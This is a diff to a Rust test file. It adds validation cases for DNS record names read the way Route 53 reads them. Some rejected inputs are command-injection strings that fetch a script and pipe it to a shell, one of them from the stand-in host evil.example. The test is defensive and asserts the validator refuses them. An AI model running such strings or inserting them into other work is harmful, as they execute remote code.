@@ -481,6 +481,24 @@ fn dns_names_normalize_as_route53_reads_them() {
         normalize_dns_name("app.shop.example.com").unwrap()
     );
     assert!(normalize_dns_name("bad\\9").is_err());
+    // only printable ASCII unescaped, as Route 53 reads names; escaped, anything goes
+    assert!(normalize_dns_name("my\\040app.example.com").is_ok());
+    for bad in [
+        "my app.example.com",
+        "app\nx.example.com",
+        "bücher.example.com",
+        "$(curl x | sh)",
+    ] {
+        assert!(normalize_dns_name(bad).is_err(), "{bad:?}");
+    }
+    let problems = problems_after(|plan| {
+        set(
+            plan,
+            "/dns/0/recordName",
+            json!("$(curl evil.example | sh)"),
+        );
+    });
+    assert_problem(&problems, "dns[0].recordName", "DNS name");
 }
 
 #[test]
